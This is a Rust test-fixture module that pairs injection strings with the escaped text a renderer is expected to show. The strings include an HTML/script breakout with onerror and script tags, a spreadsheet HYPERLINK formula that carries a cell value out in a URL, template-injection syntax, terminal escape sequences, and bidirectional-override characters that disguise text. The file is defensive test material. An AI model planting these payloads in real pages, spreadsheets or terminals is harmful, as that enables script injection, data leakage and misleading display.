//! Texts that try to leave their place, and how they must be shown.

/// One text, and the text that a reader must see instead.
#[derive(Debug, Clone)]
pub(crate) struct Attack {
    /// What it tries.
    pub(crate) name: &'static str,
    /// As an author writes it.
    pub(crate) raw: String,
    /// As the pack must show it.
    pub(crate) shown: String,
    /// As a line of the terminal must show it.
    pub(crate) printed: String,
}

/// A text that is shown as it is.
fn plain(name: &'static str, text: &str) -> Attack {
    shown(name, text, text)
}

/// A text with characters that must be replaced by stand-ins.
fn shown(name: &'static str, raw: &str, shown: &str) -> Attack {
    Attack { name, raw: raw.to_owned(), shown: shown.to_owned(), printed: shown.to_owned() }
}

/// All of them. The stand-ins are written out: control pictures for ASCII controls, U+FFFD for the rest.
pub(crate) fn all() -> Vec<Attack> {
    vec![
        // Out of an attribute, of the elements that hold text, and into a script.
        plain("markup", "\"><img src=x onerror=alert(1)></style></title></svg></table><script>alert(1)</script><!-- "),
        // A formula for spreadsheets, quotes, templates, references.
        plain(
            "syntax",
            "=HYPERLINK(\"https://example.org/?\"&A1,'x') `b` \u{201c}c\u{201d} \\ {{ 7*7 }} {% raw %} {{ pack.front.title | safe }} {# c #} &lt;b&gt; &#x202e; &amp;amp;",
        ),
        Attack {
            name: "controls",
            raw: "\u{0}\u{7}\u{8}\u{1b}[31m\u{1b}[2J\u{1b}]0;owned\u{7}\u{7f}\u{9b}31m\u{85} one\r\ntwo\tthree".to_owned(),
            shown: "\u{2400}\u{2407}\u{2408}\u{241b}[31m\u{241b}[2J\u{241b}]0;owned\u{2407}\u{2421}\u{fffd}31m\u{fffd} one\u{240d}\ntwo\tthree"
                .to_owned(),
            printed: "\u{2400}\u{2407}\u{2408}\u{241b}[31m\u{241b}[2J\u{241b}]0;owned\u{2407}\u{2421}\u{fffd}31m\u{fffd} one\u{240d}\u{240a}two\u{2409}three"
                .to_owned(),
        },
        shown(
            "direction",
            "\u{202e}tsil ecirp\u{2066}x\u{2067}y\u{200f}\u{61c}\u{2029}z",
            "\u{fffd}tsil ecirp\u{fffd}x\u{fffd}y\u{fffd}\u{fffd}\u{fffd}z",
        ),
        plain(
            "right to left",
            "\u{5e9}\u{5dc}\u{5d5}\u{5dd} 7 \u{5e2}\u{5d5}\u{5dc}\u{5dd} (12) - 34 \u{645}\u{631}\u{62d}\u{628}\u{627}",
        ),
        plain(
            "letters",
            "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{ad}f\u{feff}g \u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f3f4} e\u{301}\u{301}\u{301}\u{301}\u{301} \u{6f22}\u{5b57}",
        ),
        plain("long word", &"abcdefghij".repeat(1_000)),
    ]
}
